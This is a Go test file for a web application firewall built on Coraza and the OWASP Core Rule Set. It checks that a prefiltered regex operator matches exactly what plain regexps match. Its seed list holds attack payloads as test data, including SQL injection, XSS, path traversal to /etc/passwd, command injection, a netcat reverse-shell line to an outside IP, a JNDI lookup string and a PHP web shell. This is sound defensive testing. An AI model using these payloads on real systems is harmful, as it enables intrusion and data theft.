package waf

import (
	"bytes"
	"io/fs"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
)

// crsPatterns are the arguments of every CRS @rx rule (all paranoia
// levels), as Coraza hands them to the operator.
var crsPatterns = sync.OnceValues(func() ([]string, error) {
	rxPatterns.Lock()
	rxPatterns.m = map[string]bool{}
	rxPatterns.Unlock()
	defer func() {
		rxPatterns.Lock()
		rxPatterns.m = nil
		rxPatterns.Unlock()
	}()
	st := settings{paranoia: 4, threshold: 5, bodies: true, maxBody: 1 << 20}
	if _, err := coraza.NewWAF(coraza.NewWAFConfig().WithRootFS(crsFS).WithDirectives(st.seclang())); err != nil {
		return nil, err
	}
	rxPatterns.Lock()
	defer rxPatterns.Unlock()
	var ps []string
	for p := range rxPatterns.m {
		ps = append(ps, p)
	}
	slices.Sort(ps)
	return ps, nil
})

// crsOps are the CRS patterns compiled twice: by the operator and as
// the plain regexp Coraza's rx would run.
type crsOp struct {
	args  string
	op    plugintypes.Operator
	plain *regexp.Regexp // nil: a binary pattern
}

var crsOps = sync.OnceValues(func() ([]crsOp, error) {
	ps, err := crsPatterns()
	if err != nil {
		return nil, err
	}
	var ops []crsOp
	for _, p := range ps {
		op, err := newRX(plugintypes.OperatorOptions{Arguments: p})
		if err != nil {
			return nil, err
		}
		c := crsOp{args: p, op: op}
		if _, ok := op.(*rx); ok {
			c.plain = regexp.MustCompile("(?sm)" + p)
		}
		ops = append(ops, c)
	}
	return ops, nil
})

// fakeTx records what an operator captures.
type fakeTx struct {
	plugintypes.TransactionState
	capturing bool
	caps      map[int]string
}

func (f *fakeTx) Capturing() bool { return f.capturing }
func (f *fakeTx) CaptureField(i int, v string) {
	if f.caps == nil {
		f.caps = map[int]string{}
	}
	f.caps[i] = v
}

// want is what Coraza's rx does with value: whether it matches and, when
// capturing, the fields it captures.
func want(re *regexp.Regexp, value string) (bool, map[int]string) {
	m := re.FindStringSubmatchIndex(value)
	if m == nil {
		return false, nil
	}
	caps := map[int]string{}
	for i := 0; i < len(m)/2 && i < 9; i++ {
		if m[2*i] >= 0 {
			caps[i] = value[m[2*i]:m[2*i+1]]
		} else {
			caps[i] = ""
		}
	}
	return true, caps
}

// checkOps fails t when an operator disagrees with the plain regexp on
// value (the prefilter skipping a match, or captures differing).
func checkOps(t *testing.T, ops []crsOp, value string) {
	t.Helper()
	for _, c := range ops {
		if c.plain == nil {
			c.op.Evaluate(&fakeTx{capturing: true}, value) // no panic
			continue
		}
		ok, caps := want(c.plain, value)
		tx := &fakeTx{capturing: true}
		if got := c.op.Evaluate(tx, value); got != ok || ok && !mapsEqual(tx.caps, caps) {
			t.Fatalf("pattern %q on %q: operator %v %v, regexp %v %v", c.args, value, got, tx.caps, ok, caps)
		}
		if got := c.op.Evaluate(&fakeTx{}, value); got != ok {
			t.Fatalf("pattern %q on %q (not capturing): operator %v, regexp %v", c.args, value, got, ok)
		}
	}
}

func mapsEqual(a, b map[int]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if w, ok := b[k]; !ok || w != v {
			return false
		}
	}
	return true
}

// seeds are attack payloads of the CRS families the prefilter sees, and
// the Unicode folding corner cases (ſ folds to s, K (Kelvin) to k).
var seeds = []string{
	"", "a", "some ordinary text value 12345", "O'Brien", "ls 300 lexus", "zsh is the best!",
	"1' union select password from users--", "UNION ALL SELECT", "ſelect * from users", "uniOn ſelect",
	"<script>alert(1)</script>", "<ſcript>", "javascript:alert(1)", "onmouseover=alert(1)",
	"../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/etc/shadow", "c:\\windows\\system32",
	";cat /etc/passwd", "$(id)", "`id`", "| nc -e /bin/sh 1.2.3.4 4444", "\nid", "busybox wget",
	"b\"u's\\ybox", "\u212Aill -9 1", "e\u212Aec(", "${jndi:ldap://x/a}", "{{7*7}}", "<?php system($_GET['c']); ?>",
	"\x00\xff\xfe", "caf\xc3\xa9", "\xef\xbf\xbd", "%00", "sleep(5)", "benchmark(1000000,md5(1))",
	"SELECT CASE WHEN 1=1 THEN 1 ELSE 0 END", "1 or 1=1", "admin'--", "' OR ''='", "<!ENTITY x SYSTEM \"file:///\">",
	"() { :; }; echo vulnerable", "eval(base64_decode('aWQ='))", "Runtime.getRuntime().exec(\"id\")",
	"java.lang.ProcessBuilder", "rO0ABXNy", "text/html; charset=utf-8", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
}

// TestRxAgreesWithRegexp runs every CRS pattern through the operator and
// the plain regexp on the seeds and their variations.
func TestRxAgreesWithRegexp(t *testing.T) {
	ops, err := crsOps()
	if err != nil {
		t.Fatal(err)
	}
	if len(ops) < 250 {
		t.Fatalf("only %d CRS @rx patterns run through %s: is crsFS rewriting the rules?", len(ops), rxName)
	}
	pf := 0
	for _, c := range ops {
		if r, ok := c.op.(*rx); ok && r.pf != nil {
			pf++
		}
	}
	t.Logf("%d CRS @rx patterns, %d with a prefilter", len(ops), pf)
	for _, s := range seeds {
		vs := []string{s, strings.ToUpper(s), "x " + s + " y", strings.Repeat(s, 3), s + "\n" + s}
		if raceOn {
			vs = vs[:2] // the race detector makes regexps about ten times slower
		}
		for _, v := range vs {
			checkOps(t, ops, v)
		}
	}
}

// FuzzPrefilter checks that no CRS pattern's operator disagrees with the
// plain regexp (match and captures) on any input.
func FuzzPrefilter(f *testing.F) {
	for _, s := range seeds {
		f.Add(s)
	}
	ops, err := crsOps()
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, s string) {
		checkOps(t, ops, s)
	})
}

func TestPrefilterConditions(t *testing.T) {
	tests := []struct {
		expr   string
		input  string
		may    bool
		filter bool // a prefilter is expected at all
	}{
		{`(?i)union\s+select`, "some text", false, true},
		{`(?i)union\s+select`, "UNION  SELECT", true, true},
		{`(?i)union\s+select`, "union ſelect", true, true}, // non-ASCII: the regexp decides
		{`(?i)(?:select|insert|update)`, "please update it", true, true},
		{`(?i)(?:select|insert|update)`, "nothing here", false, true},
		{`[<>"']`, "plain text", false, true},
		{`[<>"']`, "O'Brien", true, true},
		{`a.*b`, "x", false, true},           // minimum length 2
		{`(?:^|;)id`, "ok", false, true},     // "id" required
		{`.*`, "", true, false},              // nothing known
		{`(?:foo)?bar?`, "zzz", true, false}, // "ba" is only 2 common bytes: still a filter?
		{`\x{FFFD}x`, "\xffx", true, true},   // U+FFFD matches an invalid byte
		{`(?i)k`, "\u212A", true, false},
	}
	for _, tt := range tests {
		expr := "(?sm)" + tt.expr
		p := newPrefilter(expr)
		re := regexp.MustCompile(expr)
		got := p == nil || p.may(tt.input)
		if re.MatchString(tt.input) && !got {
			t.Errorf("%s on %q: prefilter rejects a match", tt.expr, tt.input)
		}
		if got != tt.may && tt.filter {
			t.Errorf("%s on %q: may = %v, want %v", tt.expr, tt.input, got, tt.may)
		}
		if tt.filter && p == nil {
			t.Errorf("%s: no prefilter", tt.expr)
		}
	}
}

// TestCRSFSRewrite checks that the CRS files keep no @rx operator and that
// files outside the CRS are left as they are.
func TestCRSFSRewrite(t *testing.T) {
	files, err := fs.Glob(crsFS, "@owasp_crs/*.conf")
	if err != nil || len(files) < 20 {
		t.Fatalf("glob: %v, %d files", err, len(files))
	}
	n := 0
	for _, f := range files {
		b, err := fs.ReadFile(crsFS, f)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(b, []byte(`"@rx `)) || bytes.Contains(b, []byte(`"!@rx `)) {
			t.Errorf("%s still has an @rx operator", f)
		}
		n += bytes.Count(b, []byte(`@`+rxName+` `))
	}
	if n < 300 {
		t.Errorf("%d operators renamed, want the CRS's 315", n)
	}
	orig, _ := fs.ReadFile(coreruleset.FS, "@crs-setup.conf.example")
	got, _ := fs.ReadFile(crsFS, "@crs-setup.conf.example")
	if !bytes.Equal(orig, got) || len(got) == 0 {
		t.Error("the CRS set-up file was changed")
	}
}
